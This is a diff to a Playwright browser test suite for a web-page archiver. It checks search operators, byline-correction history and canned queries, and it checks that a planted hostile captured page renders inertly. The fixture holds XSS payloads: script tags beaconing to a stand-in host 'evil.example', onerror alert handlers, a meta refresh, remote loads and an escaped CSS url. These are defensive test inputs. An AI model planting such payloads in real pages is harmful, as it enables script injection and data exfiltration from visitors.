@@ -7,13 +7,16 @@ Chromium is Debian's (`scripts/test` installs it); Playwright drives it and neve
 
 from __future__ import annotations
 
+import importlib.util
 import os
 import shutil
+import sqlite3
 import subprocess
 import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
 
@@ -35,8 +38,24 @@ CHROMIUM_ARGS = [
 ]
 
 HOSTILE_TITLE = "<script>alert(1)</script><img src=x onerror=alert(2)> Harbour council vote"
+# what a captured page may carry that must never run or load when the archive shows it: scripts
+# that would change the title and the page and call home, handlers, a refresh, remote loads
+PLANTED_HEAD = """<base href="http://evil.example/">
+<meta http-equiv="refresh" content="1; url=http://evil.example/away">
+<link rel="stylesheet" href="http://evil.example/style.css">
+<script>document.title = "script ran"; document.documentElement.dataset.ran = "1";
+fetch("http://evil.example/beacon"); alert("captured page script");</script>
+<script src="http://evil.example/app.js"></script>
+<style>@import url("http://evil.example/import.css");
+body { background: url("http://evil.example/bg.png") }
+article { background-image: u\\72l(http://evil.example/escaped.png) }</style>"""
+PLANTED_TAIL = """<img src="http://evil.example/pixel.gif" onerror="alert('onerror ran')">
+<p style="background-image: url('http://evil.example/inline.png')">Styled from elsewhere.</p>
+<iframe src="http://evil.example/frame"></iframe>
+<form action="http://evil.example/post"><input name="q" value="x"></form>"""
+
 HOSTILE_PAGE = """<!DOCTYPE html>
-<html lang="en"><head><meta charset="utf-8">
+<html lang="en"><head><meta charset="utf-8">""" + PLANTED_HEAD + """
 <title>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; Harbour council vote</title>
 <meta name="author" content="&lt;b onmouseover=alert(3)&gt;Eve">
 <meta property="article:published_time" content="2025-08-01T10:00:00Z">
@@ -48,10 +67,14 @@ arrive, after a long debate about the cost.</p>
 the fishermen of the bay welcomed the decision &lt;img src=y onerror=alert(5)&gt; with relief.</p>
 <p>Work on the breakwater starts in March and should take eighteen months, the council's
 engineer told the meeting.</p>
-</article></body></html>
+</article>""" + PLANTED_TAIL + """</body></html>
 """
 
 SEED_EDIT = ("The planned meeting comes amid", "The long-planned meeting comes amid")
+# a correction of the rail story's byline only: a change of the article, not a new version
+AUTHORS_EDIT = ("Maria Lopez, James Whitfield", "Maria Lopez, James Whitfield, Ada Byrne")
+BYLINE_EDIT = ('<a href="/staff/james-whitfield">James Whitfield</a><br>',
+               '<a href="/staff/james-whitfield">James Whitfield</a> and Ada Byrne<br>')
 PHRASE = "replaced the damaged section with a raised embankment"  # from other-plain's body
 
 
@@ -83,6 +106,12 @@ def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, di
         seed.write_text(seed.read_text(encoding="utf-8").replace(*SEED_EDIT), encoding="utf-8")
         [(_, again)] = archive_urls(db, [urls["seed"]], settings)
         assert (again.outcome, again.version) == ("changed", 2)
+        other = root / "other.html"
+        html = other.read_text(encoding="utf-8")
+        assert AUTHORS_EDIT[0] in html and BYLINE_EDIT[0] in html
+        other.write_text(html.replace(*AUTHORS_EDIT).replace(*BYLINE_EDIT), encoding="utf-8")
+        [(_, corrected)] = archive_urls(db, [urls["other"]], settings)
+        assert (corrected.outcome, corrected.version, corrected.changed) == ("changed", 1, ("authors",))
         db.close()
     yield db_path, urls
 
@@ -99,11 +128,13 @@ def served(archive: tuple[Path, dict[str, str]]) -> Iterator[str]:
     )
     try:
         assert proc.stdout is not None
-        line = proc.stdout.readline()  # "serving ... read-only at http://127.0.0.1:PORT/ ..."
+        line = proc.stdout.readline()  # "serving ... read-only at http://127.0.0.1:PORT/archive ..."
         if "http://" not in line:
             proc.kill()
             pytest.fail(f"archiver serve did not start: {line}{proc.communicate(timeout=10)[1]}")
-        yield line.split(" at ", 1)[1].split()[0].rstrip("/")
+        url = line.split(" at ", 1)[1].split()[0]
+        assert url.endswith("/archive"), line
+        yield url.removesuffix("/archive")
     finally:
         proc.terminate()
         try:
@@ -130,11 +161,16 @@ def browser(served: str) -> Iterator[object]:
 
 @pytest.fixture()
 def page(browser):  # type: ignore[no-untyped-def]
-    """A fresh page that records every dialog (alert, confirm, prompt) and dismisses it."""
+    """A fresh page that records every dialog (alert, confirm, prompt), dismissing it, and every
+    request its pages and frames make."""
     context = browser.new_context()
     tab = context.new_page()
     tab.set_default_timeout(10_000)
     tab.dialogs = []
+    tab.requests = []
+    tab.blocked = []  # requests the page's policy stopped inside Chromium, before any network
+    context.on("request", lambda request: tab.requests.append(request.url))
+    context.on("requestfailed", lambda request: request.failure == "csp" and tab.blocked.append(request.url))
 
     def on_dialog(dialog):  # type: ignore[no-untyped-def]
         tab.dialogs.append(dialog.message)
@@ -177,6 +213,35 @@ def test_full_text_search_finds_the_article_by_a_phrase(page, served):  # type: 
     page.get_by_role("link", name="newest").click()
     page.wait_for_url("**sort=newest*")
     assert page.locator(".archiver-item-title").all_inner_texts()[0].startswith("Coastal Rail Line")
+
+
+def found_articles(page) -> set[int]:  # type: ignore[no-untyped-def]
+    """The archived articles a results page links to."""
+    hrefs = page.locator("a[href*='/archive/articles/']").evaluate_all("links => links.map(a => a.href)")
+    return {int(urlsplit(href).path.rsplit("/", 1)[1]) for href in hrefs
+            if urlsplit(href).path.rsplit("/", 1)[1].isdigit()}
+
+
+@pytest.mark.skipif(importlib.util.find_spec("archiver.datasette.ftsquery") is None,
+                    reason="FTS5 operators in the search box come with archiver.datasette.ftsquery "
+                           "(issue 16's search work, branch issue16-scale)")
+def test_search_operators_work_in_the_search_box(page, served, archive):  # type: ignore[no-untyped-def]
+    seed, rail, hostile = (article_id_of(archive, name) for name in ("seed", "other", "hostile"))
+    expected = {
+        "rail OR breakwater": {rail, hostile},
+        "tehran OR embankment": {seed, rail},
+        "winter NOT breakwater": {rail},  # both say winter
+        "breakwat*": {hostile},  # a prefix
+        '"raised embankment"': {rail},  # a phrase ...
+        '"embankment raised"': set(),  # ... in its order
+    }
+    for typed, articles in expected.items():
+        page.goto(f"{served}/archive/articles")
+        page.fill("input#_search", typed)
+        page.locator("input#_search").press("Enter")
+        page.wait_for_load_state()
+        assert found_articles(page) == articles, typed
+    assert page.dialogs == [] and left_127(page) == []
 
 
 def test_article_view_shows_paragraphs_related_links_and_versions(page, served, archive):  # type: ignore[no-untyped-def]
@@ -229,3 +294,86 @@ def test_hostile_title_is_shown_as_text_and_never_run(page, served, archive):  #
     assert page.locator("img[src='x'], img[src='y'], b[onmouseover]").count() == 0
     time.sleep(0.3)  # let any onerror handler (there must be none) fire
     assert page.dialogs == []
+
+
+def article_id_of(archive: tuple[Path, dict[str, str]], name: str) -> int:
+    db_path, urls = archive
+    with sqlite3.connect(db_path) as conn:
+        return int(conn.execute("SELECT id FROM articles WHERE fetched_url = ?", [urls[name]]).fetchone()[0])
+
+
+def left_127(page) -> list[str]:  # type: ignore[no-untyped-def]
+    """The requests a page made that went (or tried to go) anywhere but 127.0.0.1."""
+    return [url for url in page.requests if urlsplit(url).hostname != "127.0.0.1" and url not in page.blocked]
+
+
+def test_the_captured_page_is_shown_and_nothing_in_it_runs_or_reaches_out(page, served, archive):  # type: ignore[no-untyped-def]
+    hostile = article_id_of(archive, "hostile")
+    page.goto(f"{served}/archive/articles/{hostile}")
+    title = page.title()
+    page.locator("a.archiver-captured-link").click()
+    page.wait_for_url("**/archive/-/captured/*")
+    frame_element = page.locator("iframe.archiver-frame")
+    assert frame_element.get_attribute("sandbox") == ""
+    frame = page.frame_locator("iframe.archiver-frame")
+    # the captured text is there, as the page showed it
+    assert "rebuild the old breakwater" in frame.locator("article").inner_text()
+    assert frame.locator("h1").inner_text() == HOSTILE_TITLE
+    time.sleep(1.5)  # past the planted refresh's 1 s and any handler (there must be none)
+    assert page.dialogs == []  # no script, no handler ran
+    assert left_127(page) == []  # nothing was loaded or sent from elsewhere
+    # the CSS URL written with an escape, which the cleaning leaves, was stopped by the policy
+    assert page.blocked == ["http://evil.example/escaped.png"]  # the only request tried
+    assert any(url.endswith("/frame") for url in page.requests)  # the frame was loaded, from here
+    assert page.frames[1].url.endswith("/frame")  # not refreshed or navigated away
+    assert "script ran" not in page.title() and "Captured page" in page.title()
+    assert frame.locator("html[data-ran]").count() == 0 and frame.locator("iframe, script").count() == 0
+    # the frame's URL opened on its own runs nothing either (its policy sandboxes it)
+    page.goto(page.frames[1].url if len(page.frames) > 1 else served)
+    time.sleep(1.5)
+    assert page.title() != "script ran" and page.locator("html[data-ran]").count() == 0
+    assert page.dialogs == [] and left_127(page) == []
+    # and the source view shows the page's HTML as text
+    page.goto(f"{served}/archive/articles/{hostile}")
+    assert page.title() == title
+    page.get_by_role("link", name="source", exact=True).click()
+    assert 'document.title = "script ran"' in page.locator("pre.archiver-page-source").inner_text()
+    assert page.title() != "script ran" and page.dialogs == [] and left_127(page) == []
+
+
+def test_canned_queries_lead_to_the_archived_articles(page, served, archive):  # type: ignore[no-untyped-def]
+    rail = article_id_of(archive, "other")
+    page.goto(f"{served}/archive/latest_articles")
+    assert page.title() == "Latest articles · archive"
+    page.get_by_role("link", name="Coastal Rail Line Reopens Six Months After Storm Washed Out Tracks").first.click()
+    page.wait_for_url(f"**/archive/articles/{rail}")
+    assert page.locator("h1.archiver-title").inner_text().startswith("Coastal Rail Line Reopens")
+    page.goto(f"{served}/archive/changed_articles")
+    assert page.title() == "Articles changed since first seen · archive"
+    rows = page.locator("table.rows-and-columns tbody tr")
+    assert rows.count() == 2  # the seed's new text, the rail story's corrected byline
+    assert rows.filter(has_text="authors").count() == 1
+    rows.filter(has_text="authors").get_by_role("link", name="Coastal Rail Line").click()
+    page.wait_for_url(f"**/archive/articles/{rail}")
+    page.goto(f"{served}/archive/related_graph")
+    assert page.title() == "Related-link graph · archive"
+    seed_title = "Taliban Foreign Minister’s Tehran Visit Highlights Iran’s Terrorist Alliances"
+    page.get_by_role("link", name=seed_title).first.click()
+    page.wait_for_url("**/archive/articles/*")
+    assert page.locator("h1.archiver-title").inner_text() == seed_title
+    assert page.dialogs == [] and left_127(page) == []
+
+
+def test_a_corrected_byline_shows_in_the_history(page, served, archive):  # type: ignore[no-untyped-def]
+    rail = article_id_of(archive, "other")
+    page.goto(f"{served}/archive/articles/{rail}")
+    assert page.locator(".archiver-authors").inner_text() == "Maria Lopez, James Whitfield, Ada Byrne"
+    history = page.locator("#versions > ol > li")
+    assert history.count() == 2  # the correction, then version 1
+    correction = history.first
+    assert "Corrected" in correction.inner_text()
+    authors = correction.locator("li[data-field=authors]")
+    assert authors.locator(".old").inner_text() == "Maria Lopez, James Whitfield"
+    assert authors.locator(".new").inner_text() == "Maria Lopez, James Whitfield, Ada Byrne"
+    assert "Version 1" in history.nth(1).inner_text()
+    assert "1 version, 1 correction" in page.inner_text("p.archiver-source")
